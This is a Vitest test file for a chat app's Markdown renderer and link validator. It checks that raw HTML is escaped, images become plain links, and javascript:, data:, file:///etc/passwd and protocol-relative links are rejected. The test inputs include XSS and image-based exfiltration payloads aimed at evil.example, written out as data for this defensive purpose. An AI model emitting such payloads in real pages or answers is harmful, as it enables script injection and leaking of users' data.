import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown";
import { readLink } from "./read-link";

const render = (text: string, isStreaming = false) =>
  renderToStaticMarkup(<Markdown text={text} isStreaming={isStreaming} />);

describe("an answer", () => {
  it("shows HTML as text and runs none of it", () => {
    const html = render(
      'Before <img src="https://evil.example/?q=secret" onerror="alert(1)"> after\n\n<script>alert(1)</script>\n\n<b>bold</b>',
    );
    expect(html).not.toMatch(/<(?:img|script|b)[\s>]/);
    expect(html).toContain("&lt;script&gt;");
  });

  it("loads no image: it becomes a link with its words", () => {
    const html = render("![a chart](https://evil.example/x.png?d=secret)");
    expect(html).not.toContain("<img");
    expect(html).toMatch(/<a href="https:\/\/evil\.example[^>]*>Image: a chart<\/a>/);
  });

  it("opens links in a tab of their own and drops those that are none", () => {
    const html = render(
      "[site](https://example.org) [bad](javascript:alert(1)) [data](data:text/html,x) [mine](/modules/a/b)",
    );
    expect(html).toMatch(/<a href="https:\/\/example\.org\/" target="_blank" rel="noopener noreferrer nofollow"/);
    expect(html).not.toMatch(/javascript:|data:text/);
    expect(html).toContain('href="/modules/a/b"');
  });

  it("formats what it can and has no widgets of its own", () => {
    const html = render(
      "# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet x = 1 < 2;\n```\n\nand `code`",
    );
    for (const tag of ["<h1>", "<li>", "<table", "<pre", "<code>"]) expect(html).toContain(tag);
    expect(html).toContain("let x = 1 &lt; 2;");
    expect(html).not.toContain("<button");
  });

  it("finishes what is half written while it streams", () => {
    expect(render("This is **bo", true)).toContain("<strong>bo</strong>");
    expect(render("See [the pa", true)).not.toContain("href");
  });
});

it("leads to our own pages, the web and mail only", () => {
  expect(
    ["/chat/conv_1", "/modules", "/settings/models#keys", "https://a.example/x", "mailto:ann@example.org"].map(
      (href) => readLink(href).kind,
    ),
  ).toEqual(["page", "page", "page", "web", "web"]);
  for (const href of [
    undefined,
    "",
    "/api/runs",
    "//evil.example",
    "/\\evil.example",
    "/chat\\evil",
    "/chatter",
    "javascript:alert(1)",
    "JaVaScRiPt:x",
    "file:///etc/passwd",
    "https://",
  ])
    expect(readLink(href)).toEqual({ kind: "none" });
});
